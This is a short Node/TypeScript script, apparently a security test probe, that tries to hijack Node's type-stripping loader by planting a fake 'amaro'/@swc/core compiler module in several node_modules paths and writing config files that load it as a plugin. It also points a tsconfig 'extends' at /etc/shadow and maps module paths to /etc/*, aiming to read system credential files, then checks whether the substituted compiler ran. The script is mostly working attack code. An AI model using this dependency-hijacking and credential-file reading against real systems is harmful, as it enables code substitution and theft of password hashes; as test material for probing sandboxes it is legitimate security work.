// Abuse the loader: put another compiler where the loader might look, and change its settings by files.
import * as fs from 'node:fs';

const evil = `module.exports = { transformSync: () => ({ code: 'module.exports = { evil: true }', map: '{}' }) };`;
for (const place of ['/work/amaro', '/work/node_modules/amaro', '/tmp/node_modules/amaro', '/work/node_modules/@swc/core']) {
  fs.mkdirSync(place, { recursive: true });
  for (const name of ['internal.js', 'index.js', 'index.ts', 'strip-types.js']) fs.writeFileSync(`${place}/${name}`, evil);
}
const settings = { compilerOptions: { plugins: [{ name: '/work/amaro' }], paths: { '*': ['/etc/*'] } }, extends: '/etc/shadow' };
fs.writeFileSync('tsconfig.json', JSON.stringify(settings));
fs.writeFileSync('.swcrc', JSON.stringify({ jsc: { experimental: { plugins: [['/work/amaro', {}]] } } }));
fs.writeFileSync('helper.ts', 'export const evil: boolean = false; export enum E { A }');
const { evil: replaced } = require('./helper.ts');
console.log(`OUTCOME: another compiler was used: ${replaced}`);
